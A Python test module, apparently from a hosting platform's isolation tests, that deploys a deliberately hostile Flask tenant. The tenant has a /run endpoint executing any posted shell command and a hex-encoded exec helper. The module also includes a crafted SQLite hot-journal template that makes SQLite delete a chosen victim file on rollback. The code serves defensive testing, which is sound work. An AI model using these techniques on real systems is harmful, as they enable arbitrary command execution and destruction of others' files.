"""An application whose visitors run commands in it: what an attacker has who is inside.

Beside the guestbook, or alone on a server.
"""

import contextlib
import http.client
import shutil
import textwrap
from dataclasses import replace
from pathlib import Path

from tests.booted import Server

APP = """
import subprocess
from flask import Flask, request

app = Flask(__name__)


@app.get("/up")
def up():
    return "up"


@app.get("/seen")
def seen():
    return {"headers": dict(request.headers), "environ": {key: value for key, value in request.environ.items() if isinstance(value, str)}}


@app.post("/run")
def run():
    done = subprocess.run(["sh", "-c", request.get_data(as_text=True)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, errors="replace", timeout=60)
    return done.stdout
"""

HOSTS = """
[app]
name   = "{name}"
source = "."
health = "/up"
{app}
[wsgi]
app = "wsgi:app"
{wsgi}
[proxy]
domains = ["{name}.test"]
{proxy}
{more}
"""


class Hostile:
    """The application on a server, in a project folder of its own."""

    def __init__(self, server: Server, name: str = "evil") -> None:
        self.name, self.domain = name, f"{name}.test"
        folder = server.folder.parent / f"{server.name}-{name}"
        folder.mkdir()
        shutil.copytree(server.folder / ".lab", folder / ".lab")
        lines = (server.folder / "guestbook/requirements.txt").read_text().splitlines()
        (folder / "requirements.txt").write_text(
            "".join(
                f"{line}\n"
                for line in lines
                if not line.lower().startswith(("flask-", "flask_", "sqlalchemy", "alembic"))
            )
        )
        (folder / "wsgi.py").write_text(APP)
        self.server, self.folder = replace(server, folder=folder), folder
        self.configure()

    def configure(self, app: str = "", wsgi: str = "", proxy: str = "", more: str = "") -> None:
        """Write its hosts.toml."""
        text = HOSTS.format(name=self.name, app=app, wsgi=wsgi, proxy=proxy, more=more)
        (self.folder / "hosts.toml").write_text(text)

    def run(self, command: str, timeout: float = 60) -> str:
        """Run a shell command inside it, by HTTP, and return what it prints."""
        with contextlib.closing(
            http.client.HTTPConnection(self.server.address, timeout=timeout)
        ) as connection:
            connection.request(
                "POST",
                "/run",
                body=textwrap.dedent(command).encode(),
                headers={"Host": self.domain},
            )
            answer = connection.getresponse()
            text = answer.read().decode()
        assert answer.status == 200, f"{answer.status} {text}"
        return text.strip()

    def get(
        self, path: str, headers: dict[str, str] | None = None, host: str = ""
    ) -> tuple[int, str, http.client.HTTPMessage]:
        """Ask for a path; return status, body and headers."""
        with contextlib.closing(
            http.client.HTTPConnection(self.server.address, timeout=60)
        ) as connection:
            connection.request(
                "GET", path, headers={"Host": host or self.domain, **(headers or {})}
            )
            answer = connection.getresponse()
            return answer.status, answer.read().decode("utf-8", "replace"), answer.headers

    def python(self, code: str) -> str:
        """Run Python code inside it, in its environment."""
        # In pieces that no shell reads.
        packed = textwrap.dedent(code).encode().hex()
        return self.run(f"python -c \"exec(bytes.fromhex('{packed}').decode())\"")

    def write(self, name: str, text: str) -> Path:
        """Write a file of its repository."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(textwrap.dedent(text))
        return path


# A database file and a hot journal that names a victim as its super-journal: SQLite deletes it when
# it rolls the journal back (pager_delsuper in pager.c).
HOT_JOURNAL = """
import os, sqlite3, struct
db, victim = {db!r}, {victim!r}
for ending in ("", "-journal", "-wal", "-shm"):
    try: os.unlink(db + ending)
    except OSError: pass
c = sqlite3.connect(db); c.execute("pragma journal_mode=delete"); c.execute("create table t(x)"); c.execute("insert into t values(1)"); c.commit(); c.close()
data = open(db, "rb").read(); size = 4096; pages = len(data) // size; page = data[:size]; nonce = 0x1234
def checksum(page):
    total, i = nonce, size - 200
    while i > 0: total = (total + page[i]) & 0xffffffff; i -= 200
    return total
magic = bytes([0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7])
header = (magic + struct.pack(">IIIII", 1, nonce, pages, 512, size)).ljust(512, bytes(1))
record = struct.pack(">I", 1) + page + struct.pack(">I", checksum(page))
name = victim.encode()
last = struct.pack(">I", 0x40000000 // size + 1) + name + struct.pack(">I", len(name)) + struct.pack(">I", sum(name) & 0xffffffff) + magic
open(db + "-journal", "wb").write(header + record + last)
print("crafted")
"""
